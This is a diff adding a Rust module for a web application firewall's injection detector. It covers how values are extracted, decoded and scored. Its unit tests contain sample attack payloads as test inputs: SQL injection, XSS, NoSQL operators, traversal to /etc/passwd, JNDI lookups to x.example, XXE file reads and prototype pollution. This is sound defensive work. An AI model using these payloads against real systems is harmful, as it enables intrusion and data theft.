@@ -1,0 +1,714 @@
+//! The `native` detector: where values are taken from, how they are decoded,
+//! which checks run on them, and how signals become scored findings.
+
+use crate::checks::{self, Confidence, Signal, Value};
+use crate::decode::{html_decode_into, normalize_bytes_into, percent_decode_into, plain_base64, MAX_URL_DECODE_ROUNDS};
+use crate::extract;
+use crate::json::{self, JsonItemKind};
+use crate::value::{is_inert_shape, is_prose, Source, ValueContext};
+use crate::xml::{self, XmlItemKind};
+use palisade_core::{Category, Detector, Finding, Location, Phase, Severity, Transaction};
+use serde::Deserialize;
+use std::collections::BTreeMap;
+
+/// The categories the native detector knows.
+pub const NATIVE_CATEGORIES: &[Category] = &[
+    Category::SqlInjection,
+    Category::Xss,
+    Category::NosqlInjection,
+    Category::CommandInjection,
+    Category::PathTraversal,
+    Category::RemoteFileInclusion,
+    Category::Ssrf,
+    Category::TemplateInjection,
+    Category::LdapInjection,
+    Category::XpathInjection,
+    Category::Xxe,
+    Category::CrlfInjection,
+    Category::JndiInjection,
+    Category::PrototypePollution,
+    Category::CodeInjection,
+];
+
+/// Configuration of the native detector. Every field has a default, so an
+/// empty table is a complete configuration.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields, default)]
+pub struct NativeConfig {
+    /// Categories to detect; defaults to all of [`NATIVE_CATEGORIES`].
+    pub categories: Vec<Category>,
+    /// Anomaly score per category, replacing the confidence-derived score
+    /// (5 strong, 3 medium, 2 weak) of every finding in that category.
+    pub scores: BTreeMap<Category, u32>,
+    /// Most values (parameters, keys, strings, attributes...) inspected per
+    /// request; the rest are skipped and a notice finding says so.
+    pub max_values: usize,
+    /// Longest value inspected, in bytes; longer values are inspected up to this length.
+    pub max_value_bytes: usize,
+    /// Longest body inspected, in bytes.
+    pub max_body_bytes: usize,
+    /// Request headers whose values are inspected (lowercase names). Every
+    /// header is still checked for JNDI lookups.
+    pub headers: Vec<String>,
+    /// Whether cookies are inspected.
+    pub cookies: bool,
+    /// Whether values that are plainly base64 are decoded and inspected too.
+    pub decode_base64: bool,
+}
+
+impl Default for NativeConfig {
+    fn default() -> Self {
+        NativeConfig {
+            categories: NATIVE_CATEGORIES.to_vec(),
+            scores: BTreeMap::new(),
+            max_values: 4096,
+            max_value_bytes: 64 * 1024,
+            max_body_bytes: 4 * 1024 * 1024,
+            headers: [
+                "user-agent",
+                "referer",
+                "origin",
+                "x-forwarded-for",
+                "x-forwarded-host",
+                "x-real-ip",
+                "x-client-ip",
+                "true-client-ip",
+                "x-original-url",
+                "x-rewrite-url",
+                "forwarded",
+                "content-type",
+                "accept-language",
+                "x-api-version",
+            ]
+            .iter()
+            .map(|s| s.to_string())
+            .collect(),
+            cookies: true,
+            decode_base64: true,
+        }
+    }
+}
+
+/// Native attack detection as a pipeline [`Detector`] named `native`.
+#[derive(Debug, Clone)]
+pub struct NativeDetector {
+    config: NativeConfig,
+    headers: Vec<http::HeaderName>,
+}
+
+impl NativeDetector {
+    pub fn new(config: NativeConfig) -> Self {
+        let headers = config
+            .headers
+            .iter()
+            .filter_map(|h| http::HeaderName::from_bytes(h.to_ascii_lowercase().as_bytes()).ok())
+            .collect();
+        NativeDetector { config, headers }
+    }
+
+    pub fn config(&self) -> &NativeConfig {
+        &self.config
+    }
+
+    /// Inspects the request line, headers and cookies; returns the findings.
+    pub fn inspect_head(&self, head: &palisade_core::RequestHead) -> Vec<Finding> {
+        let mut inspector = Inspector::new(&self.config);
+        inspector.head(head, &self.headers);
+        inspector.finish()
+    }
+
+    /// Inspects a request body of the given media type (lowercase, no parameters);
+    /// `content_type` is the full header value (for the multipart boundary).
+    pub fn inspect_body(&self, media_type: Option<&str>, content_type: &[u8], body: &[u8]) -> Vec<Finding> {
+        let mut inspector = Inspector::new(&self.config);
+        inspector.body(media_type, content_type, body);
+        inspector.finish()
+    }
+}
+
+impl Default for NativeDetector {
+    fn default() -> Self {
+        NativeDetector::new(NativeConfig::default())
+    }
+}
+
+impl Detector for NativeDetector {
+    fn name(&self) -> &'static str {
+        "native"
+    }
+
+    fn wants(&self, phase: Phase) -> bool {
+        matches!(phase, Phase::RequestHead | Phase::RequestBody)
+    }
+
+    fn inspect(&self, phase: Phase, tx: &mut Transaction) {
+        let findings = match phase {
+            Phase::RequestHead => self.inspect_head(&tx.request),
+            Phase::RequestBody => {
+                let Some(body) = tx.request_body.as_ref() else {
+                    return;
+                };
+                if body.is_empty() {
+                    return;
+                }
+                let media = tx.request.media_type();
+                let content_type = tx
+                    .request
+                    .headers
+                    .get(http::header::CONTENT_TYPE)
+                    .map(|v| v.as_bytes())
+                    .unwrap_or(b"");
+                self.inspect_body(media.as_deref(), content_type, body)
+            }
+            Phase::ResponseHead | Phase::ResponseBody => return,
+        };
+        for finding in findings {
+            tx.report(finding);
+        }
+    }
+}
+
+fn category_bit(category: Category) -> u32 {
+    NATIVE_CATEGORIES
+        .iter()
+        .position(|c| *c == category)
+        .map_or(0, |p| 1 << p)
+}
+
+/// Per-request inspection state: reusable buffers and the findings so far.
+struct Inspector<'c> {
+    config: &'c NativeConfig,
+    enabled: u32,
+    decoded: Vec<u8>,
+    tmp: Vec<u8>,
+    lower: Vec<u8>,
+    scratch: Vec<u8>,
+    base64: Vec<u8>,
+    findings: Vec<Finding>,
+    values: usize,
+    weak_total: u32,
+    truncated: bool,
+}
+
+/// Most score weak signals may add to one request together.
+const WEAK_BUDGET: u32 = 4;
+
+impl<'c> Inspector<'c> {
+    fn new(config: &'c NativeConfig) -> Self {
+        let enabled = config.categories.iter().fold(0, |m, c| m | category_bit(*c));
+        Inspector {
+            config,
+            enabled,
+            decoded: Vec::new(),
+            tmp: Vec::new(),
+            lower: Vec::new(),
+            scratch: Vec::new(),
+            base64: Vec::new(),
+            findings: Vec::new(),
+            values: 0,
+            weak_total: 0,
+            truncated: false,
+        }
+    }
+
+    fn finish(mut self) -> Vec<Finding> {
+        if self.truncated {
+            self.findings.push(
+                Finding::new(
+                    "palisade.limit.values",
+                    Category::ResourceLimit,
+                    Severity::Info,
+                    Location::new("request"),
+                    "",
+                    "Too many values: the rest were not inspected",
+                )
+                .with_score(0),
+            );
+        }
+        self.findings
+    }
+
+    fn enabled(&self, category: Category) -> bool {
+        self.enabled & category_bit(category) != 0
+    }
+
+    fn budget(&mut self) -> bool {
+        if self.values >= self.config.max_values {
+            self.truncated = true;
+            return false;
+        }
+        self.values += 1;
+        true
+    }
+
+    fn emit(&mut self, sig: Signal, location: &dyn Fn() -> Location, evidence_from: &[u8]) {
+        if !self.enabled(sig.category) {
+            return;
+        }
+        let location = location();
+        let rule_id = format!("palisade.{}", sig.rule);
+        if self
+            .findings
+            .iter()
+            .any(|f| f.location == location && f.category == sig.category)
+        {
+            return;
+        }
+        let mut score = sig.confidence.score();
+        if let Some(s) = self.config.scores.get(&sig.category) {
+            score = *s;
+        }
+        if sig.confidence == Confidence::Weak {
+            if self.weak_total + score > WEAK_BUDGET {
+                return;
+            }
+            self.weak_total += score;
+        }
+        let severity = match sig.confidence {
+            Confidence::Strong => Severity::Critical,
+            Confidence::Medium => Severity::Warning,
+            Confidence::Weak => Severity::Notice,
+        };
+        let start = sig.at.saturating_sub(12).min(evidence_from.len());
+        let end = (start + 120).min(evidence_from.len());
+        let evidence = String::from_utf8_lossy(evidence_from.get(start..end).unwrap_or(&[]));
+        self.findings.push(
+            Finding::new(rule_id, sig.category, severity, location, &evidence, sig.message).with_score(score),
+        );
+    }
+
+    /// Decodes `raw` through the attacker's layers into `self.decoded`.
+    fn decode(&mut self, raw: &[u8]) {
+        let raw = raw.get(..self.config.max_value_bytes.min(raw.len())).unwrap_or(raw);
+        self.decoded.clear();
+        self.decoded.extend_from_slice(raw);
+        for _ in 0..MAX_URL_DECODE_ROUNDS {
+            if memchr::memchr(b'%', &self.decoded).is_none() || !percent_decode_into(&self.decoded, false, &mut self.tmp) {
+                break;
+            }
+            std::mem::swap(&mut self.decoded, &mut self.tmp);
+        }
+        if memchr::memchr(b'&', &self.decoded).is_some() && html_decode_into(&self.decoded, &mut self.tmp) {
+            std::mem::swap(&mut self.decoded, &mut self.tmp);
+        }
+        if self.decoded.iter().any(|b| *b >= 0x80 || *b == 0) && normalize_bytes_into(&self.decoded, &mut self.tmp) {
+            std::mem::swap(&mut self.decoded, &mut self.tmp);
+        }
+    }
+
+    /// Inspects one value: decodes, clears inert shapes, runs the checks.
+    fn value(&mut self, raw: &[u8], source: Source, name: &str, location: &dyn Fn() -> Location) {
+        if raw.is_empty() || !self.budget() {
+            return;
+        }
+        self.decode(raw);
+        let decoded = std::mem::take(&mut self.decoded);
+        if !is_inert_shape(&decoded) {
+            self.analyze(&decoded, source, name, location);
+        }
+        if self.config.decode_base64 && decoded.len() >= 16 {
+            let mut b64 = std::mem::take(&mut self.base64);
+            if plain_base64(&decoded, &mut b64) && !is_inert_shape(&b64) {
+                self.analyze(&b64, source, name, location);
+            }
+            self.base64 = b64;
+        }
+        self.decoded = decoded;
+    }
+
+    fn analyze(&mut self, v: &[u8], source: Source, name: &str, location: &dyn Fn() -> Location) {
+        let mut lower = std::mem::take(&mut self.lower);
+        lower.clear();
+        lower.extend_from_slice(v);
+        lower.make_ascii_lowercase();
+        let ctx = ValueContext {
+            source,
+            name,
+            prose: is_prose(v),
+        };
+        let value = Value { raw: v, lower: &lower };
+        let mut scratch = std::mem::take(&mut self.scratch);
+        let mut signals: [Option<Signal>; 14] = Default::default();
+        if source == Source::FileContent {
+            signals[0] = checks::xxe(&value, &ctx);
+            signals[1] = checks::xss(&value, &ctx);
+        } else {
+            let is_browser_url_header =
+                source == Source::Header && matches!(name, "referer" | "origin");
+            signals[0] = checks::sqli(&value, &ctx);
+            signals[1] = checks::xss(&value, &ctx);
+            signals[2] = checks::nosql(&value, &ctx);
+            signals[3] = checks::cmdi(&value, &ctx, &mut scratch);
+            signals[4] = checks::traversal(&value, &ctx);
+            if !is_browser_url_header {
+                signals[5] = checks::url_checks(&value, &ctx);
+            }
+            signals[6] = checks::ssti(&value, &ctx);
+            signals[7] = checks::ldap(&value, &ctx);
+            signals[8] = checks::xpath(&value, &ctx);
+            signals[9] = checks::xxe(&value, &ctx);
+            signals[10] = checks::crlf(&value, &ctx);
+            signals[11] = checks::jndi(&value, &mut scratch);
+            signals[12] = checks::prototype_value(&value);
+            signals[13] = checks::code(&value, &ctx);
+        }
+        for sig in signals.into_iter().flatten() {
+            let sig = if source.is_structural() && sig.confidence == Confidence::Medium {
+                Signal { confidence: Confidence::Strong, ..sig }
+            } else {
+                sig
+            };
+            self.emit(sig, location, v);
+        }
+        self.scratch = scratch;
+        self.lower = lower;
+    }
+
+    /// Checks on a name (parameter or JSON key) that only names can fail.
+    fn name_checks(&mut self, name: &[u8], parent: &[u8], location: &dyn Fn() -> Location) {
+        if let Some(sig) = checks::prototype_key(name) {
+            self.emit(sig, location, name);
+        } else if name.eq_ignore_ascii_case(b"prototype") && parent.eq_ignore_ascii_case(b"constructor") {
+            if let Some(sig) = checks::prototype_key(b"constructor.prototype") {
+                self.emit(sig, location, name);
+            }
+        }
+        if let Some(sig) = checks::nosql_key(name) {
+            self.emit(sig, location, name);
+        }
+        // Bracketed parameter names: `user[$ne]`, `a[__proto__][x]`.
+        let mut rest = name;
+        while let Some(open) = memchr::memchr(b'[', rest) {
+            let after = rest.get(open + 1..).unwrap_or(&[]);
+            let close = memchr::memchr(b']', after).unwrap_or(after.len());
+            let segment = after.get(..close).unwrap_or(&[]);
+            if let Some(sig) = checks::nosql_key(segment) {
+                self.emit(sig, location, name);
+            }
+            rest = after.get(close..).unwrap_or(&[]);
+        }
+    }
+
+    fn head(&mut self, head: &palisade_core::RequestHead, headers: &[http::HeaderName]) {
+        for (index, segment) in head.path().split('/').filter(|s| !s.is_empty()).enumerate() {
+            let location = || Location::path_segment(index);
+            if self.dot_segment(segment.as_bytes()) {
+                self.emit(
+                    Signal {
+                        category: Category::PathTraversal,
+                        rule: "traversal",
+                        confidence: Confidence::Strong,
+                        at: 0,
+                        message: "Dot-dot path segment",
+                    },
+                    &location,
+                    segment.as_bytes(),
+                );
+            }
+            self.value(segment.as_bytes(), Source::PathSegment, "", &location);
+        }
+        if let Some(query) = head.query() {
+            let mut pairs: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+            extract::for_each_pair(query.as_bytes(), self.config.max_values, &mut |n, v| {
+                pairs.push((n.to_vec(), v.to_vec()))
+            });
+            for (name, value) in &pairs {
+                let name_text = String::from_utf8_lossy(name);
+                let location = || Location::query(&name_text);
+                self.name_checks(name, b"", &location);
+                self.value(name, Source::ParamName, "", &|| Location::new(format!("query.{name_text}.name")));
+                self.value(value, Source::QueryValue, &name_text, &location);
+            }
+        }
+        for header in headers {
+            for value in head.headers.get_all(header) {
+                let name = header.as_str();
+                self.value(value.as_bytes(), Source::Header, name, &|| Location::header(name));
+            }
+        }
+        if self.config.cookies {
+            let mut cookies: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+            for value in head.headers.get_all(http::header::COOKIE) {
+                extract::for_each_cookie(value.as_bytes(), self.config.max_values, &mut |n, v| {
+                    cookies.push((n.to_vec(), v.to_vec()))
+                });
+            }
+            for (name, value) in &cookies {
+                let name_text = String::from_utf8_lossy(name);
+                let location = || Location::cookie(&name_text);
+                self.name_checks(name, b"", &location);
+                self.value(value, Source::Cookie, &name_text, &location);
+            }
+        }
+        // Every other header: JNDI lookups are logged from anywhere.
+        if self.enabled(Category::JndiInjection) {
+            for (name, value) in &head.headers {
+                if headers.contains(name) || name == http::header::COOKIE {
+                    continue;
+                }
+                let bytes = value.as_bytes();
+                if memchr::memmem::find(bytes, b"${").is_none() {
+                    continue;
+                }
+                let lower = bytes.to_ascii_lowercase();
+                let v = Value { raw: bytes, lower: &lower };
+                let mut scratch = std::mem::take(&mut self.scratch);
+                if let Some(sig) = checks::jndi(&v, &mut scratch) {
+                    let n = name.as_str();
+                    self.emit(sig, &|| Location::header(n), bytes);
+                }
+                self.scratch = scratch;
+            }
+        }
+    }
+
+    /// `..`, `%2e%2e`, `..;` as a whole path segment.
+    fn dot_segment(&mut self, segment: &[u8]) -> bool {
+        self.decode(segment);
+        let d = self.decoded.trim_ascii();
+        let d = d.split(|b| *b == b';').next().unwrap_or(d);
+        d.len() >= 2 && d.iter().all(|b| *b == b'.')
+    }
+
+    fn body(&mut self, media_type: Option<&str>, content_type: &[u8], body: &[u8]) {
+        let body = body.get(..self.config.max_body_bytes.min(body.len())).unwrap_or(body);
+        let media = media_type.unwrap_or("");
+        let trimmed = body.trim_ascii_start();
+        if media.ends_with("json") || (media.is_empty() || media == "text/plain") && matches!(trimmed.first(), Some(b'{' | b'[')) {
+            self.json_body(body);
+        } else if media == "application/x-www-form-urlencoded" {
+            self.form_body(body);
+        } else if media.starts_with("multipart/") {
+            self.multipart_body(content_type, body);
+        } else if media.ends_with("xml") || (media.is_empty() || media == "text/plain") && trimmed.first() == Some(&b'<') {
+            self.xml_body(body);
+        } else if media == "application/graphql" {
+            self.graphql(body, "body");
+        } else {
+            self.value(body, Source::RawBody, "", &|| Location::new("body"));
+        }
+    }
+
+    fn json_body(&mut self, body: &[u8]) {
+        let mut items: Vec<(JsonItemKind, String, Vec<u8>, Vec<u8>)> = Vec::new();
+        let scan = json::scan(body, self.config.max_values, &mut |item| {
+            items.push((item.kind, item.path.to_string(), item.value.to_vec(), item.parent_key.to_vec()));
+        });
+        for (kind, path, value, parent) in &items {
+            let location = || Location::json(path);
+            match kind {
+                JsonItemKind::Key => {
+                    self.name_checks(value, parent, &location);
+                    self.value(value, Source::JsonKey, "", &location);
+                }
+                JsonItemKind::String => {
+                    let name = String::from_utf8_lossy(parent);
+                    if name == "query" && extract::looks_like_graphql(value) {
+                        self.graphql(value, &format!("json.{path}"));
+                    } else {
+                        self.value(value, Source::JsonValue, &name, &location);
+                    }
+                }
+            }
+        }
+        if !scan.well_formed {
+            self.value(body, Source::RawBody, "", &|| Location::new("body"));
+        }
+    }
+
+    fn graphql(&mut self, doc: &[u8], location: &str) {
+        let mut strings: Vec<Vec<u8>> = Vec::new();
+        extract::for_each_graphql_string(doc, self.config.max_values, &mut |s| strings.push(s.to_vec()));
+        for s in &strings {
+            self.value(s, Source::GraphqlArgument, "", &|| Location::new(location));
+        }
+    }
+
+    fn form_body(&mut self, body: &[u8]) {
+        let mut pairs: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+        extract::for_each_pair(body, self.config.max_values, &mut |n, v| pairs.push((n.to_vec(), v.to_vec())));
+        for (name, value) in &pairs {
+            let name_text = String::from_utf8_lossy(name);
+            let location = || Location::form(&name_text);
+            self.name_checks(name, b"", &location);
+            self.value(name, Source::ParamName, "", &|| Location::new(format!("form.{name_text}.name")));
+            self.value(value, Source::FormValue, &name_text, &location);
+        }
+    }
+
+    fn multipart_body(&mut self, content_type: &[u8], body: &[u8]) {
+        let Some(boundary) = extract::header_parameter(content_type, b"boundary") else {
+            self.value(body, Source::RawBody, "", &|| Location::new("body"));
+            return;
+        };
+        let mut parts: Vec<(String, Option<Vec<u8>>, Vec<u8>, Vec<u8>)> = Vec::new();
+        extract::for_each_part(body, boundary, self.config.max_values, &mut |p| {
+            parts.push((
+                String::from_utf8_lossy(p.name).into_owned(),
+                p.filename.map(<[u8]>::to_vec),
+                p.content_type.to_ascii_lowercase(),
+                p.body.to_vec(),
+            ))
+        });
+        for (name, filename, content_type, content) in &parts {
+            let location = || Location::new(format!("multipart.{name}"));
+            self.name_checks(name.as_bytes(), b"", &location);
+            match filename {
+                Some(filename) => {
+                    self.value(filename, Source::MultipartFilename, name, &|| {
+                        Location::new(format!("multipart.{name}.filename"))
+                    });
+                    let lower_name = filename.to_ascii_lowercase();
+                    let markup = content_type.ends_with(b"xml")
+                        || content_type.starts_with(b"text/html")
+                        || [&b".xml"[..], b".svg", b".html", b".htm", b".xhtml"].iter().any(|e| lower_name.ends_with(e));
+                    if markup {
+                        self.value(content, Source::FileContent, name, &location);
+                    }
+                }
+                None => {
+                    if content_type.ends_with(b"json") {
+                        self.json_body(content);
+                    } else {
+                        self.value(content, Source::MultipartValue, name, &location);
+                    }
+                }
+            }
+        }
+    }
+
+    fn xml_body(&mut self, body: &[u8]) {
+        let mut items: Vec<(XmlItemKind, String, Vec<u8>)> = Vec::new();
+        xml::scan(body, self.config.max_values, &mut |item| {
+            items.push((item.kind, item.path.to_string(), item.value.to_vec()))
+        });
+        for (kind, path, value) in &items {
+            let location = || Location::new(format!("xml.{path}"));
+            match kind {
+                XmlItemKind::Doctype | XmlItemKind::ProcessingInstruction => {
+                    let lower = value.to_ascii_lowercase();
+                    let v = Value { raw: value, lower: &lower };
+                    let ctx = ValueContext { source: Source::XmlText, name: "", prose: false };
+                    if let Some(sig) = checks::xxe(&v, &ctx) {
+                        self.emit(sig, &location, value);
+                    }
+                }
+                XmlItemKind::Text => self.value(value, Source::XmlText, "", &location),
+                XmlItemKind::Attribute => {
+                    let name = path.rsplit('@').next().unwrap_or("").to_string();
+                    if name.eq_ignore_ascii_case("href") && path.to_ascii_lowercase().contains("include") {
+                        self.emit(
+                            Signal {
+                                category: Category::Xxe,
+                                rule: "xxe.xinclude",
+                                confidence: Confidence::Strong,
+                                at: 0,
+                                message: "XInclude",
+                            },
+                            &location,
+                            value,
+                        );
+                    }
+                    self.value(value, Source::XmlAttribute, &name, &location)
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use http::Method;
+    use palisade_core::{DecisionPolicy, RequestHead};
+
+    fn run(method: Method, uri: &str, headers: &[(&str, &str)], body: Option<&str>) -> Vec<Finding> {
+        let detector = NativeDetector::default();
+        let mut head = RequestHead::synthetic(method, uri);
+        for (n, v) in headers {
+            head.headers.append(
+                http::HeaderName::from_bytes(n.as_bytes()).expect("name"),
+                http::HeaderValue::from_str(v).expect("value"),
+            );
+        }
+        let mut tx = Transaction::new(head);
+        detector.inspect(Phase::RequestHead, &mut tx);
+        if let Some(b) = body {
+            tx.request_body = Some(bytes::Bytes::from(b.to_string()));
+            detector.inspect(Phase::RequestBody, &mut tx);
+        }
+        tx.findings
+    }
+
+    fn blocked(findings: &[Finding]) -> bool {
+        DecisionPolicy::default().decide(Phase::RequestBody, findings).action == palisade_core::Action::Blocked
+    }
+
+    #[test]
+    fn query_sqli_is_blocked_with_location() {
+        let f = run(Method::GET, "/items?id=1%27%20or%20%271%27%3D%271&sort=name", &[], None);
+        assert!(blocked(&f), "{f:?}");
+        assert_eq!(f[0].rule_id, "palisade.sqli");
+        assert_eq!(f[0].location.as_str(), "query.id");
+        assert_eq!(f[0].category, Category::SqlInjection);
+    }
+
+    #[test]
+    fn json_at_depth_and_keys() {
+        let f = run(
+            Method::POST,
+            "/api/users",
+            &[("content-type", "application/json")],
+            Some(r#"{"user":{"profile":{"bio":"<img src=x onerror=alert(1)>"}},"filter":{"password":{"$ne":null}}}"#),
+        );
+        assert!(f.iter().any(|x| x.location.as_str() == "json.$.user.profile.bio" && x.category == Category::Xss), "{f:?}");
+        assert!(f.iter().any(|x| x.category == Category::NosqlInjection && x.location.as_str() == "json.$.filter.password.$ne"), "{f:?}");
+    }
+
+    #[test]
+    fn benign_api_traffic_passes() {
+        let f = run(
+            Method::POST,
+            "/api/v1/orders/550e8400-e29b-41d4-a716-446655440000/comments?page=2&q=%22red%20shoes%22",
+            &[
+                ("content-type", "application/json"),
+                ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
+                ("referer", "http://localhost:3000/orders"),
+                ("cookie", "session=abc123; theme=dark"),
+            ],
+            Some(r#"{"author":"Conan O'Brien","email":"conan@example.com","text":"Select the best option; I'd drop the 2nd one. Use `ls -la` to check.","rating":5,"tags":["a&b","c"],"html":"<p>Great <b>product</b> <a href=\"https://example.com\">link</a></p>"}"#),
+        );
+        assert!(!blocked(&f), "{f:?}");
+    }
+
+    #[test]
+    fn path_multipart_xml_headers() {
+        let f = run(Method::GET, "/static/..%2f..%2fetc%2fpasswd", &[], None);
+        assert!(blocked(&f) && f[0].location.as_str().starts_with("path["), "{f:?}");
+        let f = run(Method::GET, "/", &[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")], None);
+        assert!(blocked(&f) && f[0].location.as_str() == "header.user-agent", "{f:?}");
+        let f = run(Method::GET, "/", &[("x-custom", "${jndi:ldap://x.example/a}")], None);
+        assert!(blocked(&f), "{f:?}");
+        let body = "--b\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"../../../etc/cron.d/x\"\r\n\r\nx\r\n--b--\r\n";
+        let f = run(Method::POST, "/upload", &[("content-type", "multipart/form-data; boundary=b")], Some(body));
+        assert!(blocked(&f) && f[0].location.as_str() == "multipart.doc.filename", "{f:?}");
+        let xml = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
+        let f = run(Method::POST, "/xml", &[("content-type", "application/xml")], Some(xml));
+        assert!(blocked(&f) && f.iter().any(|x| x.category == Category::Xxe), "{f:?}");
+        let f = run(Method::GET, "/a?__proto__[admin]=1", &[], None);
+        assert!(blocked(&f) && f[0].category == Category::PrototypePollution, "{f:?}");
+        let f = run(Method::GET, "/login?user[$ne]=x", &[], None);
+        assert!(blocked(&f) && f[0].category == Category::NosqlInjection, "{f:?}");
+    }
+
+    #[test]
+    fn config_deserializes_strictly() {
+        let c: NativeConfig = serde_json::from_str(r#"{"categories":["sql_injection"],"scores":{"sql_injection":3}}"#).expect("config");
+        assert_eq!(c.categories, vec![Category::SqlInjection]);
+        assert!(serde_json::from_str::<NativeConfig>(r#"{"bogus":1}"#).is_err());
+        let d = NativeDetector::new(c);
+        let f = d.inspect_head(&RequestHead::synthetic(Method::GET, "/?q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%20or%201=1"));
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].score, 3);
+    }
+}
